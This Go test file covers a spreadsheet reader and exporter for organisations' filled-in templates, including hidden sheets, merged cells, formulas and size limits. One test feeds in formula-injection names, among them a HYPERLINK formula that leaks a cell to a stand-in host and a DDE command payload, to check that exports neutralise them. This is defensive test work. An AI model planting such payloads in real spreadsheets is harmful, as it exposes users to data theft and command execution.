package batch

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode"

	"baotou-widget/rules"
)

// testdata/workbooks holds the template filled with the public examples, 40
// organisations ("永磁材料企业 1" … "永磁材料企业 6", …), kept as officers keep their
// spreadsheets, each written by openpyxl (make.py there writes them all).

// TestWorkbooksAsKept: a hidden sheet of last year first, a cover first, a title above the
// header, cells merged down, columns the template does not know (with formulas without
// results in one of them), and all of it at once: each reads as the plain template does,
// every organisation its example's answers, and says where it read them.
func TestWorkbooksAsKept(t *testing.T) {
	plain := readWorkbook(t, "plain")
	want := Assess(plain.Rows, nil)
	if len(plain.Rows) != 40 || want.Total.UpTo == 0 {
		t.Fatalf("plain.xlsx: %d organisations, %s", len(plain.Rows), want.Total.UpTo)
	}
	for _, c := range []struct {
		file   string
		source Source
	}{
		{"plain", Source{Sheet: "填写", HeaderLine: 1}},
		{"hidden-first", Source{Sheet: "2025年", HeaderLine: 1, Skipped: []SkippedSheet{{"2024年", true}}}},
		{"cover", Source{Sheet: "填写", HeaderLine: 1, Skipped: []SkippedSheet{{"封面", false}}}},
		{"title-row", Source{Sheet: "填写", HeaderLine: 3}},
		{"merged", Source{Sheet: "填写", HeaderLine: 1}},
		{"extra-columns", Source{Sheet: "填写", HeaderLine: 1, Unused: []string{"序号", "填报日期", "备注"}}},
		{"as-kept", Source{Sheet: "2025年", HeaderLine: 3, Skipped: []SkippedSheet{{"2024年", true}, {"封面", false}},
			Unused: []string{"序号", "填报日期", "备注"}}},
	} {
		t.Run(c.file, func(t *testing.T) {
			in := readWorkbook(t, c.file)
			if !reflect.DeepEqual(in.Source, c.source) {
				t.Errorf("read %+v, want %+v", in.Source, c.source)
			}
			if len(in.Rows) != 40 {
				t.Fatalf("%d organisations, want 40", len(in.Rows))
			}
			for i, r := range in.Rows {
				base, _, _ := strings.Cut(r.Name, " ")
				if r.Line != c.source.HeaderLine+1+i {
					t.Errorf("%s at line %d", r.Name, r.Line)
				}
				for _, e := range exampleRows {
					if e.name == base && !bytes.Equal(rules.Encode(r.Answers), rules.Encode(exampleAnswers(t, e.example))) {
						t.Errorf("%s:\n got %s\nwant %s", r.Name, rules.Encode(r.Answers), rules.Encode(exampleAnswers(t, e.example)))
					}
				}
			}
			if got := Assess(in.Rows, nil).Total; got != want.Total {
				t.Errorf("totals %+v, want %+v", got, want.Total)
			}
		})
	}
	// The files are what they claim to be.
	for file, part := range map[string]string{"merged": "<mergeCell ", "title-row": "<mergeCell ref=\"A1:", "extra-columns": "<f>ROW()-1</f><v></v>",
		"hidden-first": `state="hidden"`, "formulas": "<f>1200*1</f><v></v>"} {
		if !workbookHolds(t, file, part) {
			t.Errorf("%s.xlsx holds no %s", file, part)
		}
	}
}

func readWorkbook(t *testing.T, name string) *Input {
	t.Helper()
	in, err := Read(readFile(t, "workbooks/"+name+".xlsx"), nil)
	if err != nil {
		t.Fatalf("%s.xlsx: %v", name, err)
	}
	return in
}

// workbookHolds tells whether a part of a workbook holds the text.
func workbookHolds(t *testing.T, name, text string) bool {
	data := readFile(t, "workbooks/"+name+".xlsx")
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if p, err := readPart(f); err == nil && bytes.Contains(p, []byte(text)) {
			return true
		}
	}
	return false
}

// TestFormulasWithoutResults: amounts saved as formulas without their results are
// refused, cell by cell, grouped as they repeat, in the officer's language.
func TestFormulasWithoutResults(t *testing.T) {
	_, err := Read(readFile(t, "workbooks/formulas.xlsx"), nil)
	errs, ok := err.(Errors)
	if !ok {
		t.Fatalf("formulas.xlsx: %v", err)
	}
	if errs.Rows() != 24 { // the 24 organisations with R&D this year
		t.Errorf("%d bad rows, want 24", errs.Rows())
	}
	if got, want := errs.Lines(rules.Chinese), []string{"共 24 行（第 2、3、4 行等）: Y 列“今年研发费用（万元）”: 公式没有计算结果：请在 Excel 或 WPS 中打开并保存后再试"}; !reflect.DeepEqual(got, want) {
		t.Errorf("%q\nwant %q", got, want)
	}
}

// TestFormulaCells: a formula reads as its stored result; one without a result is a bad
// cell where the template uses its column, and nothing where it does not; a formula
// whose text result is empty is empty.
func TestFormulaCells(t *testing.T) {
	sheet := `<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c><c r="B1" t="inlineStr"><is><t>今年研发费用（万元）</t></is></c>` +
		`<c r="C1" t="inlineStr"><is><t>序号</t></is></c><c r="D1" t="inlineStr"><is><t>备注</t></is></c></row>` +
		`<row r="2"><c r="A2" t="inlineStr"><is><t>甲</t></is></c><c r="B2"><f>600*2</f><v>1200</v></c><c r="C2"><f>ROW()-1</f></c><c r="D2" t="str"><f>""</f><v></v></c></row>` +
		`<row r="3"><c r="A3" t="inlineStr"><is><t>乙</t></is></c><c r="B3"><f>600*2</f><v></v></c></row>` +
		`<row r="4"><c r="A4" t="inlineStr"><is><t>丙</t></is></c><c r="B4"><f t="shared" si="0"/></c></row>`
	_, err := Read(workbookOf(t, sheet, ""), nil)
	errs, ok := err.(Errors)
	if !ok || len(errs) != 2 || errs[0].Line != 3 || errs[1].Line != 4 || errs[0].Cells[0].problem != problemNoResult || errs[0].Cells[0].Column != "B" {
		t.Fatalf("%v", err)
	}
	in, err := Read(workbookOf(t, sheet[:strings.Index(sheet, `<row r="3">`)], ""), nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := in.Rows[0].Answers.RD.ThisYear.String(); got != "12000000" {
		t.Errorf("the formula's result reads %s", got)
	}
	if !reflect.DeepEqual(in.Unused, []string{"序号", "备注"}) {
		t.Errorf("unused %q", in.Unused)
	}
}

// TestMergedCells: a merged range gives every cell it covers its first cell's value,
// in the rows that hold anything; a range of nothing gives nothing.
func TestMergedCells(t *testing.T) {
	sheet := `<worksheet xmlns="` + nsMain + `"><sheetData>` +
		`<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c><c r="B1" t="inlineStr"><is><t>inZone</t></is></c><c r="C1" t="inlineStr"><is><t>机构类型</t></is></c></row>` +
		`<row r="2"><c r="A2" t="inlineStr"><is><t>甲</t></is></c><c r="B2" t="inlineStr"><is><t>是</t></is></c><c r="C2"/></row>` +
		`<row r="3"><c r="A3" t="inlineStr"><is><t>乙</t></is></c><c r="B3"/></row>` +
		`<row r="4"><c r="A4" t="inlineStr"><is><t>丙</t></is></c></row>` +
		`<row r="6"><c r="A6" t="inlineStr"><is><t>丁</t></is></c></row>` +
		`</sheetData><mergeCells count="3"><mergeCell ref="B2:B7"/><mergeCell ref="C2:C4"/><mergeCell ref="D1:XFD1048576"/></mergeCells></worksheet>`
	s, err := ReadSheet(workbookOf(t, `<?xml version="1.0"?>`+sheet, ""))
	if err != nil {
		t.Fatal(err)
	}
	if got, want := sheetText(s), "1: 名称|inZone|机构类型\n2: 甲|是\n3: 乙|是\n4: 丙|是\n6: 丁|是"; got != want {
		t.Errorf("%s\nwant\n%s", got, want)
	}
	// Ranges over ranges over every row: refused, not filled for minutes.
	var rows, merges strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&rows, `<row r="%d"><c r="A%d"><v>1</v></c></row>`, i+1, i+1)
	}
	merges.WriteString(strings.Repeat(`<mergeCell ref="A1:ALL1000"/>`, 20))
	_, err = ReadSheet(workbookOf(t, `<?xml version="1.0"?><worksheet><sheetData>`+rows.String()+`</sheetData><mergeCells>`+merges.String()+`</mergeCells></worksheet>`, ""))
	if errs, ok := err.(Errors); !ok || !strings.Contains(errs.Error(), "more than 10,000,000 cells") {
		t.Errorf("ranges over ranges: %.200v", err)
	}
}

// TestSheetChoice: the header is the first row naming the template's columns among a
// sheet's first rows; a workbook with no such sheet refuses its first visible sheet's
// header, so that the officer sees what was expected.
func TestSheetChoice(t *testing.T) {
	in, err := Read([]byte("2025 年填报汇总,,\n单位：万元,,\n名称,inZone,机构类型\n甲,是,企业\n"), nil)
	if err != nil || in.HeaderLine != 3 || len(in.Rows) != 1 || in.Rows[0].Name != "甲" {
		t.Errorf("%+v, %v", in, err)
	}
	_, err = Read([]byte("封面\n填报单位：科技局\n说明：见下\n"), nil)
	if errs, ok := err.(Errors); !ok || !strings.Contains(errs.Error(), "is not a column of the template") {
		t.Errorf("a cover alone: %v", err)
	}
}

// TestLimits: each limit refuses a file with a message that names it, in the
// officer's language, counting no rows when the file as a whole is refused.
func TestLimits(t *testing.T) {
	var rows strings.Builder
	rows.WriteString("名称,inZone\n")
	for i := range maxRows {
		fmt.Fprintf(&rows, "x%d,是\n", i)
	}
	styles := `<styleSheet xmlns="` + nsMain + `"><cellXfs>` + strings.Repeat(`<xf numFmtId="0"/>`, maxStyles+1) + `</cellXfs></styleSheet>`
	for _, c := range []struct {
		name  string
		data  []byte
		want  string
		line  int
		wantE string
	}{
		{"rows", []byte(rows.String()), "超过 100,000 行", maxRows + 1, "more than 100,000 rows"},
		{"columns (CSV)", []byte("名称,inZone\n" + strings.Repeat(",", maxColumns) + "x\n"), "ALM 列: 超过 1,000 列", 2, "more than 1,000 columns"},
		{"columns (xlsx)", workbookOf(t, `<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c></row><row r="2"><c r="XFD2"><v>1</v></c></row>`, ""),
			"XFD 列: 超过 1,000 列", 2, "more than 1,000 columns"},
		{"cell", []byte("名称,inZone\n" + strings.Repeat("长", maxCellLength+1) + ",是\n"), "A 列: 单元格超过 32,767 个字", 2, "more than 32,767 characters"},
		{"file", make([]byte, MaxFileSize+1), "文件超过 50 MB", 0, "over 50 MB"},
		{"styles", workbookWith(t, "xl/styles.xml", styles), "单元格格式超过 64,000 种", 0, "more than 64,000 cell formats"},
		{"unpacked", workbookWith(t, "xl/sharedStrings.xml", strings.Repeat(" ", maxPart+1)), "文件解压后超过 128 MB", 0, "unpacks to over 128 MB"},
	} {
		_, err := Read(c.data, nil)
		errs, ok := err.(Errors)
		if !ok || len(errs) != 1 || errs[0].Line != c.line {
			t.Errorf("%s: %.300v", c.name, err)
			continue
		}
		if zh := errs.Lines(rules.Chinese)[0]; !strings.Contains(zh, c.want) {
			t.Errorf("%s: %q, want %q", c.name, zh, c.want)
		}
		en := errs.Lines(rules.English)[0]
		if !strings.Contains(en, c.wantE) || strings.ContainsFunc(en, func(r rune) bool { return unicode.Is(unicode.Han, r) }) {
			t.Errorf("%s in English: %q", c.name, en)
		}
		if c.line == 0 && errs.Rows() != 0 {
			t.Errorf("%s: %d rows counted", c.name, errs.Rows())
		}
	}
	if err := CheckSize(MaxFileSize); err != nil {
		t.Errorf("a file of the largest size allowed: %v", err)
	}
}

// workbookWith is workbookOf's workbook with one part replaced.
func workbookWith(t *testing.T, name, body string) []byte {
	t.Helper()
	good := workbookOf(t, `<row r="1"><c r="A1"><v>1</v></c></row>`, `<si><t>h</t></si>`)
	z, _ := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, f := range z.File {
		p, _ := readPart(f)
		if f.Name == name {
			p = []byte(body)
		}
		fw, _ := w.Create(f.Name)
		fw.Write(p)
	}
	w.Close()
	return out.Bytes()
}

// TestErrorsAtScale: a problem that many rows share is said once, with how many; at most
// maxListed rows are listed one by one, and then how many more there are; a long value
// is cut; a whole file's problem is in the officer's language alone.
func TestErrorsAtScale(t *testing.T) {
	var b strings.Builder
	b.WriteString("名称,今年研发费用（万元）,inZone\n")
	for i := range 10000 {
		fmt.Fprintf(&b, "x%d,abc,是\n", i) // the same bad amount on every row
	}
	for i := range 1000 {
		fmt.Fprintf(&b, "y%d,1,maybe%d\n", i, i) // a different bad word on each
	}
	fmt.Fprintf(&b, "z,1,%s\n", strings.Repeat("很长", 5000))
	_, err := Read([]byte(b.String()), nil)
	errs := err.(Errors)
	if errs.Rows() != 11001 {
		t.Errorf("%d bad rows, want 11,001", errs.Rows())
	}
	lines := errs.Lines(rules.Chinese)
	if len(lines) != 1+maxListed+1 {
		t.Fatalf("%d lines", len(lines))
	}
	if want := "共 10,000 行（第 2、3、4 行等）: B 列“今年研发费用（万元）”: “abc”: 不是金额"; lines[0] != want {
		t.Errorf("%q, want %q", lines[0], want)
	}
	if want := "第 10002 行: C 列“inZone”: “maybe0”: 应填"; !strings.HasPrefix(lines[1], want) {
		t.Errorf("%q, want %q…", lines[1], want)
	}
	if want := "另有 801 行有误，未列出"; !strings.HasPrefix(lines[len(lines)-1], want) {
		t.Errorf("%q, want %q…", lines[len(lines)-1], want)
	}
	page := errs.HTML(rules.Chinese)
	if n := strings.Count(page, "<li"); n != len(lines) || len(page) > 100<<10 {
		t.Errorf("%d items, %d bytes on the page", n, len(page))
	}
	// A long value, cut.
	_, err = Read([]byte("名称,inZone\nx,"+strings.Repeat("很长", 5000)+"\n"), nil)
	if line := err.(Errors).Lines(rules.Chinese)[0]; len(line) > 400 || !strings.Contains(line, "很长很长…”") {
		t.Errorf("a long value: %d bytes, %.200q", len(line), line)
	}
	// A file that is not one: no row counted, no English in Chinese.
	_, err = Read([]byte("PK\x03\x04not really a zip"), nil)
	errs = err.(Errors)
	if zh := errs.Lines(rules.Chinese)[0]; errs.Rows() != 0 || strings.ContainsAny(zh, "abcdefghijklmnopqrstuvwxyz") && !strings.Contains(zh, ".xlsx") {
		t.Errorf("%d rows: %q", errs.Rows(), zh)
	}
}

// TestFormulaLikeNames: a name a spreadsheet would take for a formula stays text in
// both downloads: a single quote first in the CSV, a string in the .xlsx.
func TestFormulaLikeNames(t *testing.T) {
	names := []string{`=HYPERLINK("http://x.example/?"&A1,"详情")`, `=cmd|' /C calc'!A0`, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "普通企业"}
	var in strings.Builder
	w := csv.NewWriter(&in)
	w.Write([]string{"名称", "inZone"})
	for _, n := range names {
		w.Write([]string{n, "是"})
	}
	w.Flush()
	rows, err := readRows([]byte(in.String()))
	if err != nil {
		t.Fatal(err)
	}
	f := Assess(rows, nil)
	var c, x bytes.Buffer
	f.WriteCSV(&c, rules.Chinese, false)
	f.WriteXLSX(&x, rules.Chinese)
	got, err := csv.NewReader(&c).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sheets := readAll(t, x.Bytes())
	for i, n := range names {
		read := strings.TrimSpace(n) // a tab or a line end around a cell goes as it is read
		want := read
		if strings.ContainsAny(read[:1], "=+-@") {
			want = "'" + read
		}
		if got[i+1][0] != want {
			t.Errorf("CSV: %q, want %q", got[i+1][0], want)
		}
		if sheets[0][i+1][0] != read {
			t.Errorf(".xlsx: %q, want %q", sheets[0][i+1][0], read)
		}
	}
	z, _ := zip.NewReader(bytes.NewReader(x.Bytes()), int64(x.Len()))
	for _, f := range z.File {
		if p, _ := readPart(f); bytes.Contains(p, []byte("<f>")) || bytes.Contains(p, []byte("<f ")) {
			t.Errorf("the .xlsx's %s holds a formula", f.Name)
		}
	}
}
